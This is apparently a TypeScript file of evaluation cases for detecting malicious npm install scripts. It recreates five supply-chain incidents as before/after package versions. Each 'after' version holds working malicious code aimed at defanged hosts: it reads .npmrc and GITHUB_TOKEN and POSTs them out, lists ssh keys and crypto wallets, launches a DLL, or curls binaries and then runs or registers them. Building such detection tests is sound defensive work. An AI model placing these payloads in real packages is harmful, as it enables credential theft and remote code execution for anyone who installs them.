/**
 * Install-time cases: the files install scripts already run change (Shai-Hulud's bundle, nx's
 * telemetry.js, eslint-config-prettier's install.js, ua-parser-js's preinstall, rc/coa's batch launcher).
 * Defanged: hosts are `*.example`, addresses TEST-NET.
 */
import type { EvalCase } from './case.js';
import { libraryModule, minified } from './code.js';

export function shaiHulud(): EvalCase {
  const helper = "'use strict';\n// Prints where the package was installed.\nconsole.log('installed in', process.cwd());\n";
  const worm = minified(
    7,
    3000,
    'const h=require("os").homedir(),fs=require("fs");const n=fs.readFileSync(h+"/.npmrc","utf8");const g=process.env.GITHUB_TOKEN;' +
      'fs.mkdirSync(".github/workflows",{recursive:true});fs.writeFileSync(".github/workflows/shai-hulud-workflow.yml","on: push");' +
      'require("https").request({host:"webhook.attacker.example",method:"POST"}).end(n+g)',
  );
  return {
    id: 'shai-hulud',
    incident: "Shai-Hulud 2025: a worm bundle run by the package's existing postinstall target",
    name: 'ngx-toolkit',
    from: '3.4.1',
    to: '3.4.2',
    manifest: { main: 'index.js', scripts: { postinstall: 'node bundle.js' } },
    before: { 'index.js': libraryModule('ngx', 6), 'bundle.js': helper },
    after: { 'index.js': libraryModule('ngx', 6), 'bundle.js': worm },
    file: 'bundle.js',
  };
}

export function nxTelemetry(): EvalCase {
  const telemetry = [
    "'use strict';",
    "const https = require('https');",
    "const os = require('os');",
    '// Anonymous usage: platform only, opt out with NX_NO_TELEMETRY.',
    'if (!process.env.NX_NO_TELEMETRY) {',
    "  const req = https.request({ host: 'telemetry.nx-tools.example', method: 'POST', path: '/v1' });",
    '  req.end(JSON.stringify({ platform: os.platform() }));',
    "  req.on('error', () => {});",
    '}',
    '',
  ].join('\n');
  const evil = telemetry.replace(
    '  req.end(JSON.stringify({ platform: os.platform() }));',
    [
      "  const fs = require('fs');",
      "  const found = ['.ssh/id_rsa', '.config/solana/id.json', 'wallet.dat', '.ethereum/keystore']",
      '    .map((p) => os.homedir() + "/" + p).filter((p) => fs.existsSync(p));',
      '  req.end(JSON.stringify({ platform: os.platform(), found }));',
    ].join('\n'),
  );
  return {
    id: 'nx-telemetry',
    incident: 'nx 2025: telemetry.js (an existing postinstall) now looks for wallets and ssh keys',
    name: 'nx',
    from: '21.4.1',
    to: '21.5.0',
    manifest: { main: 'index.js', scripts: { postinstall: 'node telemetry.js' } },
    before: { 'index.js': libraryModule('nx', 5), 'telemetry.js': telemetry },
    after: { 'index.js': libraryModule('nx', 5), 'telemetry.js': evil },
    file: 'telemetry.js',
  };
}

export function eslintPrettier(): EvalCase {
  const install = ["'use strict';", "const os = require('os');", "if (os.platform() === 'win32') console.log('eslint-config: windows detected');", ''].join(
    '\n',
  );
  const evil = install.replace(
    "console.log('eslint-config: windows detected');",
    "require('child_process').spawn('rundll32', [__dirname + '/node-gyp.dll,main'], { detached: true, stdio: 'ignore' }).unref();",
  );
  return {
    id: 'eslint-config-install',
    incident: 'eslint-config-prettier 2025: the install.js an install script runs now launches a DLL',
    name: 'eslint-config-prettier',
    from: '10.1.5',
    to: '10.1.6',
    manifest: { main: 'index.js', scripts: { install: 'node install.js' } },
    before: { 'index.js': libraryModule('rule', 8), 'install.js': install },
    after: { 'index.js': libraryModule('rule', 8), 'install.js': evil },
    file: 'install.js',
  };
}

export function uaParser(): EvalCase {
  const pre = [
    "'use strict';",
    '// Checks the Node version before install.',
    "if (+process.versions.node.split('.')[0] < 14) console.warn('ua-parser: old Node');",
    '',
  ].join('\n');
  const evil = [
    "'use strict';",
    "const { execSync } = require('child_process');",
    "const os = require('os');",
    "if (os.platform() === 'linux') execSync('sh ' + __dirname + '/preinstall.sh');",
    "else if (os.platform() === 'win32') execSync(__dirname + '\\\\preinstall.bat');",
    '',
  ].join('\n');
  return {
    id: 'ua-parser-preinstall',
    incident: 'ua-parser-js 2021: the preinstall launcher now runs per-platform scripts',
    name: 'ua-parser-js',
    from: '0.7.28',
    to: '0.7.29',
    manifest: { main: 'src/ua-parser.js', scripts: { preinstall: 'node preinstall.js' } },
    before: { 'src/ua-parser.js': libraryModule('ua', 12), 'preinstall.js': pre },
    after: {
      'src/ua-parser.js': libraryModule('ua', 12),
      'preinstall.js': evil,
      'preinstall.sh': '#!/bin/sh\ncurl -s http://198.51.100.24/jsextension -o /tmp/jsextension && chmod +x /tmp/jsextension && /tmp/jsextension -k\n',
      'preinstall.bat': '@echo off\ncurl http://198.51.100.24/sdd.dll -o %TEMP%\\sdd.dll\nregsvr32.exe -s %TEMP%\\sdd.dll\n',
    },
    file: 'preinstall.js',
  };
}

export function batchLauncher(): EvalCase {
  const post = [
    "'use strict';",
    "const { execFileSync } = require('child_process');",
    "if (process.platform === 'win32') execFileSync('cmd.exe', ['/c', __dirname + '\\\\scripts\\\\setup.bat']);",
    '',
  ].join('\n');
  return {
    id: 'batch-launcher',
    incident: 'rc/coa 2021: a batch file an install step already ran now downloads and registers a DLL',
    name: 'coa',
    from: '2.0.2',
    to: '2.0.3',
    manifest: { main: 'index.js', scripts: { postinstall: 'node postinstall.js' } },
    before: { 'index.js': libraryModule('cli', 8), 'postinstall.js': post, 'scripts/setup.bat': '@echo off\necho coa: nothing to set up\n' },
    after: {
      'index.js': libraryModule('cli', 8),
      'postinstall.js': post,
      'scripts/setup.bat': '@echo off\ncurl https://198.51.100.23/sdd.dll -o %TEMP%\\sdd.dll\nregsvr32.exe -s %TEMP%\\sdd.dll\n',
    },
    file: 'scripts/setup.bat',
  };
}
